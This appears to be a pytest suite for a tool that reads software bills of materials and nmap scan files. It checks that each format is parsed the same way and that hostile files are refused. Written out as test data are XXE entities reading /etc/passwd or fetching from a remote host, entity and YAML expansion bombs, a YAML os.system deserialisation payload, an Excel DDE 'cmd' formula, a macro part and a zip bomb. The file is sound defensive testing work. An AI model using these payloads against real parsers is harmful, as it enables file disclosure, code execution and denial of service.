"""Lists of components and scans: what is read of each format, and what no hostile file gets."""

import io
import json
import tarfile
import zipfile

import pytest

from sonae.kernel.errors import BadInput
from sonae.prevention.assets.intake import files, parts, scans
from sonae.prevention.assets.intake.vocabulary import FileFormat, IntakeRefusal

COMPONENT = {
    "type": "library", "group": "org.example", "name": "core", "version": "1.2", "publisher": "Example",
    "purl": "pkg:maven/org.example/core@1.2", "cpe": "cpe:2.3:a:example:core:1.2:*:*:*:*:*:*:*",
    "hashes": [{"alg": "MD5", "content": "00"}, {"alg": "SHA-256", "content": "AB"}],
}  # fmt: skip
CYCLONEDX = {
    "components": [{**COMPONENT, "components": [{"name": "inner", "supplier": {"name": "Inner Ltd"}}]}],
    "metadata": {"component": {"name": "the device"}}, "bomFormat": "CycloneDX", "specVersion": "1.6",
}  # fmt: skip
XML = """<?xml version="1.0"?>
<bom xmlns="http://cyclonedx.org/schema/bom/1.7" version="1"><metadata><component><name>the device</name></component>
</metadata><components><component type="library"><supplier><name>Example</name><url>x</url></supplier>
<group>org.example</group><name>core</name><version>1.2</version><hashes><hash alg="MD5">00</hash>
<hash alg="SHA-256">AB</hash></hashes><cpe>cpe:2.3:a:example:core:1.2:*:*:*:*:*:*:*</cpe>
<purl>pkg:maven/org.example/core@1.2</purl>
<pedigree><ancestors><component><name>older</name><version>1.0</version></component></ancestors></pedigree>
<components><component><name>inner</name><publisher>Inner Ltd</publisher></component></components>
</component></components><services><service><name>no part</name></service></services></bom>"""
TAG_VALUE = """SPDXVersion: SPDX-2.3
DocumentName: x
PackageName: org.example/core
PackageVersion: 1.2
PackageSupplier: Organization: Example (mail@example.org)
PackageComment: <text>several
PackageName: not one
lines</text>
PackageChecksum: MD5: 00
PackageChecksum: SHA256: AB
ExternalRef: SECURITY cpe23Type cpe:2.3:a:example:core:1.2:*:*:*:*:*:*:*
ExternalRef: PACKAGE-MANAGER purl pkg:maven/org.example/core@1.2
FileName: ./a
FileChecksum: SHA1: 99
PackageName: inner
PackageSupplier: NOASSERTION
PackageOriginator: Person: Inner Ltd
"""
SPDX = {
    "spdxVersion": "SPDX-2.3", "packages": [
        {"name": "org.example/core", "versionInfo": "1.2", "supplier": "Organization: Example ()",
         "checksums": [{"algorithm": "SHA256", "checksumValue": "AB"}],
         "externalRefs": [
             {"referenceType": "cpe23Type", "referenceLocator": COMPONENT["cpe"]},
             {"referenceType": "http://spdx.org/rdf/references/purl", "referenceLocator": COMPONENT["purl"]}]},
        {"name": "inner", "originator": "Organization: Inner Ltd"},
    ],
}  # fmt: skip
SPDX3 = {
    "@context": "https://spdx.org/rdf/3.0.1/spdx-context.jsonld", "@graph": [
        {"type": "software_Package", "name": "org.example/core", "software_packageVersion": "1.2",
         "suppliedBy": "urn:1",
         "software_packageUrl": COMPONENT["purl"],
         "externalIdentifier": [{"externalIdentifierType": "cpe23", "identifier": COMPONENT["cpe"]}],
         "verifiedUsing": [{"type": "Hash", "algorithm": "sha256", "hashValue": "AB"}]},
        {"type": "software_File", "name": "no part"},
        {"type": "software_Package", "name": "inner", "suppliedBy": "urn:2"},
        {"type": "Organization", "spdxId": "urn:1", "name": "Example"},
        {"type": "Organization", "spdxId": "urn:2", "name": "Inner Ltd"},
    ],
}  # fmt: skip
YAML = "SPDXID: SPDXRef-DOCUMENT\n" + json.dumps(SPDX)[1:-1].replace('"spdxVersion"', "spdxVersion", 1).replace(
    ', "packages"', "\npackages", 1
)


def kept(tmp_path, content):
    path = tmp_path / "bom"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def read(tmp_path, content):
    path = kept(tmp_path, content)
    found = []
    meant = files.format_of(path, name="bom")
    parts.read(path, meant, found.append, name="bom")
    return meant, found


@pytest.mark.parametrize(
    ("content", "meant"),
    [
        (json.dumps(CYCLONEDX), FileFormat.CYCLONEDX_JSON),
        ("\ufeff" + XML, FileFormat.CYCLONEDX_XML),
        (json.dumps(SPDX), FileFormat.SPDX_JSON),
        (TAG_VALUE, FileFormat.SPDX_TAG),
        (YAML, FileFormat.SPDX_YAML),
        (json.dumps(SPDX3), FileFormat.SPDX3),
    ],
)
def test_every_format_says_the_same_of_the_same_components(tmp_path, content, meant):
    found_format, found = read(tmp_path, content)
    assert found_format is meant
    core, inner = sorted(found, key=lambda part: part.name, reverse=True)
    assert (core.name, core.version, core.supplier, core.cpe, core.purl, core.hash_algorithm, core.hash_value) == (
        "org.example/core", "1.2", "Example", COMPONENT["cpe"], COMPONENT["purl"], "SHA256", "ab",
    )  # fmt: skip
    assert (inner.name, inner.supplier, inner.version, inner.hash_value) == ("inner", "Inner Ltd", "", "")


def test_what_a_maker_left_out_stays_out(tmp_path):
    odd = {
        "bomFormat": "CycloneDX",
        "components": [{"version": "1"}, {"name": "", "purl": "pkg:x/y"}, None, 3, {"name": 7}],
    }
    assert read(tmp_path, json.dumps(odd))[1] == []
    assert read(tmp_path, '{"bomFormat": "CycloneDX"}')[1] == []


def nested(depth):
    return (
        '{"bomFormat": "CycloneDX", "components": '
        + '[{"name": "x", "components": ' * depth
        + "[]"
        + "}]" * depth
        + "}"
    )


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("[" * 100_000, IntakeRefusal.BOM_TOO_DEEP),
        ('{"bomFormat": "CycloneDX", "a": ' + '{"a":' * 50_000, IntakeRefusal.BOM_TOO_DEEP),
        (nested(150), IntakeRefusal.BOM_TOO_DEEP),
        ('{"bomFormat": "CycloneDX", "components": [{"name": "x"', IntakeRefusal.BOM_MALFORMED),
        ('{"bomFormat": "CycloneDX", "components": [{"name": "x", "hashes": [7]}]}', IntakeRefusal.BOM_MALFORMED),
        ('<!DOCTYPE b [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><bom>&b;</bom>', IntakeRefusal.XML_ENTITIES),
        ('<!DOCTYPE bom SYSTEM "file:///etc/passwd"><bom/>', "xml_entities"),
        ("<bom>" + "<components><component>" * 200, "xml_too_deep"),
        ("<bom><components>", "xml_malformed"),
        ("spdxVersion: SPDX-2.3\na: &a [x, x]\nb: &b [*a, *a]\npackages: *b\n", IntakeRefusal.BOM_MALFORMED),
        ("spdxVersion: SPDX-2.3\npackages: !!python/object/apply:os.system [ls]\n", IntakeRefusal.BOM_MALFORMED),
        ("spdxVersion: 2.3\npackages: " + "[" * 50_000, IntakeRefusal.BOM_MALFORMED),
    ],
)
def test_a_hostile_list_is_refused(tmp_path, content, reason):
    with pytest.raises(BadInput) as refused:
        read(tmp_path, content)
    assert refused.value.problems[0].reason == reason


def packed(name, content, *, times=1):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("xl/workbook.xml", "<workbook/>")
        package.writestr(name, content * times)
    return file.getvalue()


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (packed("xl/worksheets/sheet1.xml", b"\0" * 1_000_000, times=100), "archive_too_large"),
        (packed("xl/vbaProject.bin", b"x"), "office_macros"),
        (packed("xl/worksheets/sheet1.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet/>'), "xml_entities"),
        (packed("xl/worksheets/sheet1.xml", b"<worksheet><f>cmd|'/c calc'!A0</f></worksheet>"), "office_dde"),
    ],
)
def test_a_hostile_workbook_is_refused_as_everywhere_in_the_house(tmp_path, content, reason):
    with pytest.raises(BadInput) as refused:
        files.format_of(kept(tmp_path, content), name="l.xlsx")
    assert refused.value.problems[0].reason == reason


SCAN = """<?xml version="1.0"?>
<!DOCTYPE nmaprun PUBLIC "-//IDN nmap.org//DTD Nmap XML 1.04//EN" "https://nmap.example/nmap.dtd">
<nmaprun><host><status state="up"/><address addr="192.0.2.9" addrtype="ipv4"/>
<address addr="00:11:22:33:44:99" addrtype="mac" vendor="Cards Inc"/><hostnames><hostname name="ct01"/></hostnames>
<ports><extraports state="closed" count="998"/><port protocol="tcp" portid="22"><state state="open"/>
<service name="ssh" product="OpenSSH" version="9"/></port><port protocol="tcp" portid="80"><state state="closed"/>
<service name="http"/></port></ports><os><osmatch name="Linux 5" accuracy="97"/></os></host>
<host><status state="down"/><address addr="192.0.2.10" addrtype="ipv4"/></host>
<host><status state="up"/></host></nmaprun>"""


def test_a_scan_says_who_answered_and_keeps_guesses_apart(tmp_path):
    path = kept(tmp_path, SCAN)
    assert files.format_of(path, name="s.xml") is FileFormat.NMAP
    (host,) = scans.read(path, name="s.xml")
    assert host.values == {
        "ip_address": "192.0.2.9", "mac_address": "00:11:22:33:44:99", "hostname": "ct01", "card_maker": "Cards Inc",
        "os_guess": "Linux 5 (97%)", "ports": "22/tcp ssh OpenSSH 9",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("head", "reason"),
    [
        ('<!DOCTYPE nmaprun [<!ENTITY x SYSTEM "file:///etc/passwd">]>', IntakeRefusal.XML_ENTITIES),
        ('<!DOCTYPE nmaprun [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>', IntakeRefusal.XML_ENTITIES),
    ],
)
def test_a_scan_with_entities_is_refused_wherever_they_stand(tmp_path, head, reason):
    for content in (head, head.replace("<!DOCTYPE", f"<!--{'x' * 70_000}--><!DOCTYPE")):
        path = kept(tmp_path, f"{content}<nmaprun><host><status state='up'/></host></nmaprun>")
        with pytest.raises(BadInput) as refused:
            scans.read(path, name="s.xml")
        assert refused.value.problems[0].reason == reason


@pytest.mark.shared
def test_real_lists_say_the_same_in_every_serialisation(shared_data, tmp_path):
    folder = shared_data / "sbom_assets"
    found: dict[str, dict[str, object]] = {}
    for archive in ("cyclonedx/bom-examples-A.tar.gz", "spdx/ntia-conformant.tar.gz"):
        with tarfile.open(folder / archive) as members:
            for member in members:
                if member.isfile() and not member.name.endswith((".rdf.xml", ".spdx.xml")):
                    _meant, listed = read(tmp_path, members.extractfile(member).read())
                    found[member.name] = {(part.name, part.version, part.purl): part for part in listed}
    for stem, count in (("SBOM/dropwizard-1.3.15/bom", 167), ("SBOM/juice-shop/v11.1.2/bom", 840)):
        assert found[f"{stem}.json"] == found[f"{stem}.xml"]
        assert len(found[f"{stem}.json"]) == count
    laravel = [set(parts) for name, parts in found.items() if "laravel" in name]
    assert len(laravel) == 7 and len(laravel[0]) == 62 and all(one == laravel[0] for one in laravel)
    kinds = [parts for name, parts in found.items() if "no_elements_missing" in name]
    assert len(kinds) == 3 and all(set(one) == set(kinds[0]) for one in kinds)


@pytest.mark.shared
def test_real_scans_are_read_and_the_probes_among_them_refused(shared_data, tmp_path):
    hosts, refused = {}, []
    with tarfile.open(shared_data / "sbom_assets/nmap/libnmap-testfiles.tar.gz") as members:
        for member in members:
            path = kept(tmp_path, members.extractfile(member).read())
            try:
                if files.format_of(path, name=member.name) is FileFormat.NMAP:
                    hosts[member.name.rpartition("/")[2]] = len(scans.read(path, name=member.name))
            except BadInput:
                refused.append(member.name.rpartition("/")[2])
    assert sorted(refused) == ["2_hosts.json", "defused_et_included.xml", "defused_et_local_includer.xml"]
    assert (len(hosts), hosts["full_sudo6.xml"], hosts["test_osclass.xml"], hosts["2_hosts.xml"]) == (24, 4, 0, 2)
